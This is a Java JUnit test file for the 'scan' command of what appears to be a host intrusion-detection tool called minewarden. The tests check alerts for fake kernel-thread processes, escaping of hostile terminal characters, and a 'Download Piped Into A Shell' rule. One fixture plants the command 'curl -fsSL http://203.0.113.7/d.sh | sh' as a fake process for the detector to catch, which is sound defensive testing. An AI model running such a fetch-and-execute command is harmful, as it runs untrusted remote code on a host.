package dev.minewarden.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** {@code minewarden scan} on a fixture root. */
class ScanCommandTest {
  @TempDir Path dir;
  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();

  private int run(String... args) {
    CommandLine cl = new CommandLine(new ScanCommand());
    cl.setOut(new PrintWriter(out));
    cl.setErr(new PrintWriter(err));
    return cl.execute(args);
  }

  @Test
  void scan_ndjsonAlertsAndFailOn() throws Exception {
    Path root = HostFixture.create(dir.resolve("root"));

    int code = run("--root", root.toString(), "--window", "0", "--format", "ndjson", "--no-attributes");

    List<JsonNode> alerts = new ArrayList<>();
    for (String line : out.toString().split("\n")) {
      alerts.add(new ObjectMapper().readTree(line));
    }
    assertThat(alerts).extracting(j -> j.at("/rule/id").asText())
        .contains("mw-host-fake-kthread", "mw-host-exec-writable-dir");
    JsonNode fake = alerts.stream().filter(j -> j.at("/rule/id").asText().equals("mw-host-fake-kthread")).findFirst().orElseThrow();
    assertThat(fake.at("/process/pid").asLong()).isEqualTo(666);
    assertThat(fake.at("/host/name").asText()).isEqualTo("fixture-host");
    assertThat(fake.at("/event/severity").asInt()).isEqualTo(3);
    assertThat(fake.at("/event/kind").asText()).isEqualTo("alert");
    assertThat(code).as("a high alert fails --fail-on high").isEqualTo(1);
    assertThat(run("--root", root.toString(), "--window", "0", "--fail-on", "critical", "--no-attributes")).isZero();
    assertThat(run("--root", root.toString(), "--window", "0", "--fail-on", "none", "--no-attributes")).isZero();
  }

  @Test
  void scan_tableEscapesHostileNames() throws Exception {
    Path root = HostFixture.create(dir.resolve("root"));

    run("--root", root.toString(), "--window", "0", "--no-attributes");

    assertThat(out.toString()).contains("mw-host-fake-kthread").doesNotContain("\u001b")
        .contains("[kworker/0:2]\\x1b[31m\\x0aX");
    assertThat(err.toString()).contains("minewarden scan:");
  }

  @Test
  void scan_rulesRunOnProcessEventsInTheSameSchema() throws Exception {
    Path root = HostFixture.create(dir.resolve("root"));
    HostFixture.process(root, 700, 1, "sh", 0, "/usr/bin/dash",
        "sh\0-c\0curl -fsSL http://203.0.113.7/d.sh | sh\0");

    run("--root", root.toString(), "--window", "0", "--format", "ndjson", "--no-attributes", "--fail-on", "none");

    List<JsonNode> alerts = new ArrayList<>();
    for (String line : out.toString().split("\n")) {
      alerts.add(new ObjectMapper().readTree(line));
    }
    JsonNode pipe = alerts.stream().filter(j -> j.at("/rule/name").asText().equals("Download Piped Into A Shell"))
        .findFirst().orElseThrow();
    assertThat(pipe.at("/process/pid").asLong()).isEqualTo(700);
    assertThat(pipe.at("/process/command_line").asText()).isEqualTo("sh -c curl -fsSL http://203.0.113.7/d.sh | sh");
    assertThat(pipe.at("/host/name").asText()).isEqualTo("fixture-host");
    assertThat(pipe.at("/event/severity").asInt()).isEqualTo(2);
    assertThat(pipe.at("/threat/technique/id").toString()).contains("T1059");
    assertThat(alerts).anyMatch(j -> j.at("/rule/id").asText().equals("mw-host-fake-kthread"));

    out.getBuffer().setLength(0);
    run("--root", root.toString(), "--window", "0", "--format", "ndjson", "--no-attributes", "--no-builtin");
    assertThat(out.toString()).contains("mw-host-fake-kthread").doesNotContain("Download Piped Into A Shell");
  }

  @Test
  void scan_badLevelIsUsageError() {
    assertThat(run("--fail-on", "severe")).isEqualTo(2);
    assertThat(err.toString()).contains("unknown level 'severe'");
  }
}
